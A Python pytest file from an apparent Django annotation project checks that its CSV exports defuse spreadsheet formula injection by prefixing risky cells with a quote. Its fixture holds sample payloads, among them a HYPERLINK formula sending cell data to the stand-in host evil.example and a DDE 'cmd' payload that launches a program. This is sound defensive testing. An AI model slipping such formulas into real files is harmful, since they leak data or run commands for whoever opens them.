"""CSV exports are opened in spreadsheets: a cell that starts like a formula is written
with a leading single quote (OWASP's advice on CSV injection), by Python and PostgreSQL
alike, so it is shown as text and never run."""

from __future__ import annotations

import csv
import io

import pytest

from annotations.audit import audit_log_lines
from annotations.exports import csv as csv_format
from annotations.exports import postgresql

from .support.factories import AnnotationFactory, ClaimFactory, SourceFactory

HOSTILE = {
    "speaker": '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "final_rationale": "+1+cmd|' /C calc'!A0",
    "review_comment": "-2+3",
    "final_verdict": "@SUM(1,2)",
}


@pytest.fixture
def hostile_claim(project, annotator):
    claim = ClaimFactory(document__project=project, status="approved", **HOSTILE)
    annotation = AnnotationFactory(
        claim=claim, annotator=annotator, rationale="\t=1+1", verdict="-2"
    )
    SourceFactory(annotation=annotation, quote="=cmd")
    return claim


def cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def assert_claim_cells_are_inert(text: str) -> None:
    [row] = cells(text)
    assert row["speaker"] == "'" + HOSTILE["speaker"]
    assert row["final_rationale"] == "'" + HOSTILE["final_rationale"]
    assert row["review_comment"] == "'-2+3"
    assert row["final_verdict"] == "'@SUM(1,2)"
    assert row["final_verdict_label"] == "'@SUM(1,2)"


def assert_annotation_cells_are_inert(text: str) -> None:
    [row] = cells(text)
    assert row["rationale"] == "'\t=1+1"
    assert row["verdict"] == "'-2"
    # Cells that start harmlessly are written as they are.
    assert row["sources_json"].startswith('[{"url": "https://')


def download(api, user, project, name: str) -> str:
    response = api(user).get(f"/api/projects/{project.slug}/export/", {"format": name})
    assert response.status_code == 200
    return b"".join(response.streaming_content).decode("utf-8")


def test_the_csv_export_neutralises_formula_cells(api, project, editor, hostile_claim):
    assert_claim_cells_are_inert(download(api, editor, project, "csv"))


def test_the_annotations_csv_neutralises_formula_cells(api, project, editor, hostile_claim):
    assert_annotation_cells_are_inert(download(api, editor, project, "csv_annotations"))


@pytest.mark.django_db
def test_pythons_claim_rows_neutralise_formula_cells(project, hostile_claim):
    header = ",".join(csv_format.COLUMNS) + "\n"
    assert_claim_cells_are_inert(header + "".join(csv_format.claim_rows(project)))


@pytest.mark.django_db
def test_pythons_annotation_rows_neutralise_formula_cells(project, hostile_claim):
    header = ",".join(csv_format.ANNOTATION_COLUMNS) + "\n"
    assert_annotation_cells_are_inert(header + "".join(csv_format.annotation_rows(project)))


@pytest.mark.postgres
@pytest.mark.django_db
def test_postgresqls_claim_rows_neutralise_formula_cells(project, hostile_claim):
    header = ",".join(csv_format.COLUMNS) + "\n"
    written = "".join(postgresql.claim_rows(project))
    assert_claim_cells_are_inert(header + written)
    assert written == "".join(csv_format.claim_rows(project))


@pytest.mark.postgres
@pytest.mark.django_db
def test_postgresqls_annotation_rows_neutralise_formula_cells(project, hostile_claim):
    header = ",".join(csv_format.ANNOTATION_COLUMNS) + "\n"
    written = "".join(postgresql.annotation_rows(project))
    assert_annotation_cells_are_inert(header + written)
    assert written == "".join(csv_format.annotation_rows(project))


@pytest.mark.django_db
def test_the_audit_trail_csv_neutralises_formula_cells(project, hostile_claim, admin):
    from annotations.audit import record_event

    record_event(admin, project, "update", after={"name": "x"})
    admin.username = "=evil"
    admin.save()
    [row] = cells("".join(audit_log_lines(project, "csv")))[-1:]
    assert row["actor"] == "'=evil"
